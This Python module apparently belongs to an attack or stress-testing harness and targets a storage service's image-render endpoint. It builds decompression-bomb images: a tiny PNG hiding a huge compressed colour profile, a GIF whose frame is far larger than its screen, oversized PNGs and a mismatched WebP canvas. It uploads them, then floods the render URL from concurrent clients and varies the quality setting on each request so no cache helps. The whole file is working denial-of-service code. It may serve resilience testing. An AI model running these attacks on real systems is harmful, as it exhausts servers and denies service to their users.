"""Pictures whose parts declare more than they seem to, and pictures that take long."""

from __future__ import annotations

import struct
import zlib

from client import Connection, Target

from . import attack


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, profile: bytes | None = None) -> bytes:
    """A picture whose rows are alike, so that it is small."""
    pack = zlib.compressobj(6)
    row = b"\0" + bytes((x * 7 + (x >> 3)) & 255 for x in range(3 * width))
    pixels = b"".join(pack.compress(row) for _ in range(height)) + pack.flush()
    parts = [chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))]
    if profile is not None:
        parts.append(chunk(b"iCCP", b"p\0\0" + profile))
    return b"\x89PNG\r\n\x1a\n" + b"".join([*parts, chunk(b"IDAT", pixels), chunk(b"IEND", b"")])


def lzw_zeros(count: int) -> bytes:
    """GIF's LZW code of so many pixels of index 0."""
    out, kept, bits = bytearray(), 0, 0

    def put(code: int, size: int) -> None:
        nonlocal kept, bits
        kept |= code << bits
        bits += size
        while bits >= 8:
            out.append(kept & 255)
            kept >>= 8
            bits -= 8

    left, size = count, 3
    while left > 0:
        put(4, 3)
        size, following, run = 3, 6, 1
        put(0, size)
        left -= 1
        while left > 0 and following < 4095:
            run += 1
            put(following, size)
            left -= run
            following += 1
            if following == (1 << size) and size < 12:
                size += 1
    put(5, size)
    put(0, 8)
    return bytes(out)


def gif(width: int, height: int) -> bytes:
    """A screen of one pixel with a frame of this size."""
    data = lzw_zeros(width * height)
    blocks = b"".join(bytes([len(data[at : at + 255])]) + data[at : at + 255] for at in range(0, len(data), 255)) + b"\0"
    screen = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return screen + b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02" + blocks + b";"


def upload(target: Target, picture: bytes, kind: str) -> str:
    user, token = target.user("pictures")
    path = f"pictures/{user}/p"
    status, body = target.connect().send("POST", f"/storage/v1/object/{path}", picture, Content_Type=kind, Authorization=f"Bearer {token}")
    target.note(f"upload {status}")
    assert status == 200, body[:200]
    return f"/storage/v1/render/image/public/{path}"


def render(target: Target, picture: bytes, kind: str, clients: int, query: str) -> None:
    """Each request asks for another quality, which no cache has."""
    path = upload(target, picture, kind)

    def send(connection: Connection, number: int) -> int:
        return connection.send("GET", f"{path}?{query}&quality={20 + number % 80}&height={10 + number // 80}")[0]

    target.repeat(clients, send)


@attack("pictures/gif-frame")
def gif_frame(target: Target) -> None:
    render(target, gif(3000, 3000), "image/gif", 4, "width=10")


@attack("pictures/png-profile", chosen=True)
def png_profile(target: Target) -> None:
    pack = zlib.compressobj(9)
    profile = b"".join(pack.compress(bytes(1 << 20)) for _ in range(200)) + pack.flush()
    render(target, png(1, 1, profile), "image/png", 4, "width=10")


@attack("pictures/large-as-avif", seconds=10)
def large_as_avif(target: Target) -> None:
    render(target, png(7000, 7000), "image/png", 6, "format=avif")


@attack("pictures/large-as-webp", seconds=10)
def large_as_webp(target: Target) -> None:
    render(target, png(7000, 7000), "image/png", 6, "format=webp&width=2000")


@attack("pictures/wide", seconds=6)
def wide(target: Target) -> None:
    render(target, png(60_000, 3), "image/png", 6, "width=2000")


@attack("pictures/webp-canvas", seconds=6)
def webp_canvas(target: Target) -> None:
    """A canvas of one pixel around a frame of 2000 × 2000, which the server itself has made."""
    path = upload(target, png(2000, 2000), "image/png")
    _, webp = target.connect().send("GET", f"{path}?format=webp&quality=20")
    at = webp.find(b"VP8 ")
    target.note("no frame" if at < 0 else "frame")
    size = struct.unpack("<I", webp[at + 4 : at + 8])[0]
    body = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + bytes(10) + webp[at : at + 8 + size + (size & 1)]
    render(target, b"RIFF" + struct.pack("<I", len(body)) + body, "image/webp", 4, "width=1")
